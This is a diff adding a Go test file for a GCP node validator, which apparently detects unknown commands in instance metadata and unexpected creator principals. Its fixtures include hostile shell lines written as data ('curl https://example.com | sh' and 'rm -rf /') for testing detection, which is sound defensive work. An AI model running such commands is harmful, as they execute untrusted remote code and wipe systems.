@@ -0,0 +1,117 @@
+package findings_test
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"testing"
+
+	"cloud.google.com/go/compute/apiv1/computepb"
+	"github.com/castai/gcp-node-validator/container/findings"
+	"github.com/castai/gcp-node-validator/container/validate"
+	"github.com/samber/lo"
+	"github.com/stretchr/testify/require"
+)
+
+func TestFromError(t *testing.T) {
+	tests := []struct {
+		name string
+		err  error
+		want []findings.Finding
+	}{
+		{
+			name: "valid",
+		},
+		{
+			name: "unknown commands",
+			err: fmt.Errorf("failed to validate user-data: %w", &validate.ValidationError{
+				MetadataKey:     validate.MetadataUserDataKey,
+				UnknownCommands: "\ncurl https://example.com | sh\n\n  rm -rf /  \n",
+			}),
+			want: []findings.Finding{{
+				Type:        findings.TypeUnknownCommands,
+				MetadataKey: validate.MetadataUserDataKey,
+				Lines:       []string{"curl https://example.com | sh", "rm -rf /"},
+			}},
+		},
+		{
+			name: "unexpected principal",
+			err:  &validate.PrincipalError{Principal: "attacker@example.com"},
+			want: []findings.Finding{{
+				Type:      findings.TypeUnexpectedPrincipal,
+				Principal: "attacker@example.com",
+				Detail:    "instance created by unexpected principal attacker@example.com",
+			}},
+		},
+		{
+			name: "unexpected principal and unknown commands",
+			err: errors.Join(
+				&validate.PrincipalError{Principal: "attacker@example.com"},
+				fmt.Errorf("failed to validate configure-sh: %w", &validate.ValidationError{
+					MetadataKey:     validate.MetadataConfigureShKey,
+					UnknownCommands: "curl https://example.com | sh",
+				}),
+			),
+			want: []findings.Finding{
+				{
+					Type:      findings.TypeUnexpectedPrincipal,
+					Principal: "attacker@example.com",
+					Detail:    "instance created by unexpected principal attacker@example.com",
+				},
+				{
+					Type:        findings.TypeUnknownCommands,
+					MetadataKey: validate.MetadataConfigureShKey,
+					Lines:       []string{"curl https://example.com | sh"},
+				},
+			},
+		},
+		{
+			name: "validation failed",
+			err:  errors.New("failed to find metadata"),
+			want: []findings.Finding{{
+				Type:   findings.TypeValidationFailed,
+				Detail: "failed to find metadata",
+			}},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			require.Equal(t, tt.want, findings.FromError(tt.err))
+		})
+	}
+}
+
+func TestValidationResultSchema(t *testing.T) {
+	r := require.New(t)
+
+	instance := &computepb.Instance{
+		Name: lo.ToPtr("gke-cluster-pool-1"),
+		Id:   lo.ToPtr(uint64(42)),
+		Labels: map[string]string{
+			"cast-cluster-id":         "cluster-id",
+			"goog-k8s-cluster-name":   "cluster",
+			"goog-k8s-node-pool-name": "pool",
+		},
+	}
+	result := findings.NewValidationResult("project", "us-central1-a", instance, "principal", validate.VerdictInvalid,
+		&validate.PrincipalError{Principal: "principal"})
+	result.Action = &findings.Action{Name: "delete", Result: "applied"}
+
+	b, err := json.Marshal(result)
+	r.NoError(err)
+	var got map[string]any
+	r.NoError(json.Unmarshal(b, &got))
+
+	// Log-based metrics and alerts filter on these fields, changing them requires a new schema version.
+	r.EqualValues(1, got["schemaVersion"])
+	r.Equal("invalid", got["verdict"])
+	r.Equal("gke-cluster-pool-1", got["instance"])
+	r.Equal("42", got["instanceID"])
+	r.Equal("cluster-id", got["cluster"])
+	r.Equal("cluster", got["clusterName"])
+	r.Equal("pool", got["nodePool"])
+	r.Equal(map[string]any{"name": "delete", "result": "applied"}, got["action"])
+	r.Len(got["findings"], 1)
+}